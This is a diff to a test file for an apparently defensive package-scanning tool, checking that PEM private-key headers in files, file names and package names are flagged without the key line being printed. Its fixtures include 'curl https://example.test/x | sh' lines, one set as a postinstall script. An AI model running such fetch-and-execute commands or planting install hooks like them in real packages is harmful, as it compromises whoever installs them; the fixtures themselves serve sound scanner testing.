@@ -137,12 +137,21 @@ describe('a PEM private key a package carries', () => {
   it('is reported as one in the evidence, not refused: the verdict stands (exit 1) and the key line is not printed', async () => {
     // A package may carry a key (a test fixture, or one put there to turn its verdict into exit 2).
     const header = '-----BEGIN RSA PRIVATE KEY-----';
-    const d = tempDirFor(packageFiles('keyed', 'bin/tool', `curl https://example.test/x | sh # ${header}MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu`));
-    for (const format of ['text', 'json']) {
-      const r = await runCli(['scan', 'keyed', '--format', format], { cwd: d, env, ...FAST });
-      expect(r.exitCode, r.stderr).toBe(1);
-      expect(r.stdout).toContain('[PEM private key]');
-      expect(r.stdout + r.stderr).not.toContain('PRIVATE KEY-----');
+    const d = tempDirFor({
+      ...packageFiles('keyed', 'bin/tool', `curl https://example.test/x | sh # ${header}MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu`),
+      // A tab the evidence turns into a space, completing a key line only after that.
+      ...packageFiles('tabbed', 'bin/tool', 'curl https://example.test/x | sh # -----BEGIN\tPRIVATE KEY-----'),
+      // The key line as a file name, and as the package's name.
+      ...packageFiles('named', `bin/${header}`),
+      'pkgname/package.json': JSON.stringify({ name: header, version: '1.0.0', scripts: { postinstall: 'curl https://example.test/x | sh' } }),
+    });
+    for (const pkg of ['keyed', 'tabbed', 'named', 'pkgname']) {
+      for (const format of ['text', 'json']) {
+        const r = await runCli(['scan', pkg, '--format', format], { cwd: d, env, ...FAST });
+        expect(r.exitCode, `${pkg} ${format}: ${r.stderr}`).toBe(1);
+        expect(r.stdout).toContain('[PEM private key]');
+        expect(r.stdout + r.stderr).not.toMatch(/PRIVATE KEY-----/);
+      }
     }
   });
 });
